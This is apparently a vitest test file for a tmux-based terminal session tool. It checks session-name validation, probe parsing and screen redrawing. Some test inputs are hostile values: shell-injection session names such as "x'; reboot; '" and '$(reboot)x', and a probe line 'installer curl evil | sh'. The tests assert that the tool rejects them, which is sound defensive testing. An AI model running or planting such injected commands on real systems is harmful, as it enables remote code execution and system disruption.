import { describe, expect, test } from 'vitest'
import { foregroundCommand, isSessionName } from '../../../../src/core/terminal/kept-session'
import { asciiBytes } from '../../../../src/core/terminal/tmux/control-parser'
import { redrawnScreen } from '../../../../src/core/terminal/tmux/redraw'
import {
  attachScript,
  createScript,
  endScript,
  keyCommands,
  parseProbe,
  probeScript,
  reportedCommand,
} from '../../../../src/core/terminal/tmux/session-scripts'

const nonce = 'abc'
const size = { columns: 80, rows: 24 }

describe('what is run on a pod', () => {
  test('has no name in it but a session name', () => {
    for (const name of ["x'; reboot; '", '', 'a b c d e f g h', 'UPPERCASE', '$(reboot)x', 'a'.repeat(41)]) {
      expect(isSessionName(name)).toBe(false)
      expect(() => probeScript(name, [])).toThrow(RangeError)
      expect(() => probeScript('a1b2c3d4', [name])).toThrow(RangeError)
      expect(() => attachScript(name, nonce)).toThrow(RangeError)
      expect(() => createScript(name, nonce, size, 10)).toThrow(RangeError)
      expect(() => endScript([name])).toThrow(RangeError)
    }
  })

  test('names the tmux server of Podkeeper each time it runs tmux', () => {
    const scripts = [
      probeScript('a1b2c3d4', ['b1b2c3d4']),
      attachScript('a1b2c3d4', nonce),
      createScript('a1b2c3d4', nonce, size, 10),
    ]
    for (const script of scripts)
      for (const [, rest] of script.matchAll(/\btmux (?!>|-V|-y)(.{0,40})/g))
        expect(rest).toMatch(/^-u -L podkeeper -f \/dev\/null /)
  })

  test('keys are bytes', () => {
    expect(keyCommands(asciiBytes("a;\n'\x00\xff"))).toEqual(['send-keys -H 61 3b 0a 27 00 ff'])
    const many = keyCommands(new Uint8Array(1_001))
    expect(many.map((line) => line.split(' ').length - 2)).toEqual([500, 500, 1])
  })
})

describe('what a pod says about sessions', () => {
  const none = (reason: string, installCommand: string | null = null) => ({
    kind: 'none',
    reason,
    installCommand,
  })

  test.each([
    ['version tmux 3.5a', { kind: 'tmux', hasSession: false }],
    ['motd\r\nversion tmux 3.2\r\nexists\r\n', { kind: 'tmux', hasSession: true }],
    ['version tmux next-3.6\nexists', { kind: 'tmux', hasSession: true }],
    ['version tmux openbsd-7.5', { kind: 'tmux', hasSession: false }],
    ['version tmux 3.1c\nexists', none('too-old')],
    ['version tmux 2.9', none('too-old')],
    ['version ', none('failed')],
    ['sh: this pod is simulated, and runs no scripts', none('failed')],
    ['', none('failed')],
    ['forced-command', none('forced-command')],
    ['absent\ninstaller apk\nroot', none('absent', 'apk add tmux')],
    [
      'absent\ninstaller apt-get\nsudo',
      none('absent', 'sudo apt-get update && sudo apt-get install -y tmux'),
    ],
    ['absent\ninstaller apt-get', none('absent')],
    ['absent\nroot', none('absent')],
    ['absent\ninstaller curl evil | sh\nroot', none('absent')],
  ])('%j', (output, probe) => expect(parseProbe(output)).toEqual(probe))

  test('the program in the foreground is a name, and a shell is none', () => {
    expect(reportedCommand('%subscription-changed command $0 @0 0 %0 : python3')).toBe('python3')
    expect(reportedCommand('%subscription-changed other $0 @0 0 %0 : python3')).toBeNull()
    expect(reportedCommand('%exit')).toBeNull()
    expect(
      ['python3', 'bash', '-zsh', '', '\x1b[31mred\u202e', 'x'.repeat(100)].map(foregroundCommand),
    ).toEqual(['python3', null, null, null, '[31mred', 'x'.repeat(60)])
  })
})

describe('a screen that is drawn anew', () => {
  const state = (over: Readonly<Record<number, string>> = {}): Uint8Array => {
    const fields = '80,24,0,3,1,0,,,1,0,0,0,1,0,0,0,0,0,0,0,23,'.split(',')
    return asciiBytes([...fields.map((field, index) => over[index] ?? field), over[22] ?? ''].join(','))
  }
  const text = (bytes: Uint8Array | null): string => (bytes === null ? 'null' : String.fromCharCode(...bytes))
  const body = asciiBytes

  test('has its lines, its cursor, and the beginning of a sequence that is still to come', () => {
    const screen = body(`one\ntwo${'\n'.repeat(22)}`)
    const drawn = `\x1bc\x1b)0one\r\ntwo${'\r\n'.repeat(22)}\x0f\x1b)B\x1b[0m`
    expect(text(redrawnScreen([state(), screen, body('\\033]0;ti')]))).toBe(
      `${drawn}\x1b[22A\x1b[4G\x1b]0;ti`,
    )
    expect(text(redrawnScreen([state({ 4: '23' }), screen, body('')]))).toBe(`${drawn}\x1b[4G`)
  })

  test('has its modes, and a title without control characters', () => {
    const drawn = text(
      redrawnScreen([
        state({ 10: '1', 12: '0', 8: '0', 16: '1', 17: '1', 19: '2', 21: '1', 22: 'a,b\x07\x1bc' }),
        body(''),
        body(''),
      ]),
    )
    expect(drawn).toContain(
      '\x1b[3;24r\x1b[2;4H\x1b[?1h\x1b[?7l\x1b[?1003h\x1b[?1006h\x1b[?2004h\x1b[?25l\x1b]2;a,bc\x1b\\',
    )
  })

  test('a full-screen program is drawn over what is behind it, without a line that is no history', () => {
    const bodies = [
      state({ 5: '1', 6: '2', 7: '5' }),
      body('not history'),
      body('behind'),
      body('full'),
      body(''),
    ]
    const drawn = text(redrawnScreen(bodies))
    expect(drawn).not.toContain('not history')
    expect(drawn).toMatch(/behind.*\x1b\[6;3H\x1b\[\?1049h\x1b\[H.*full/) // oxlint-disable-line no-control-regex
    expect(
      text(redrawnScreen([state({ 2: '9', 5: '1' }), body('history'), body(''), body(''), body('')])),
    ).toContain('history\r\n')
  })

  test('is not drawn from replies that belong to another screen, or are none', () => {
    expect(redrawnScreen([state({ 5: '1' }), body('a'), body('')])).toBeNull()
    expect(redrawnScreen([state(), body('a'), body('b'), body('c'), body('')])).toBeNull()
    expect(redrawnScreen([body('no such command'), body('a'), body('')])).toBeNull()
    expect(redrawnScreen([])).toBeNull()
  })
})
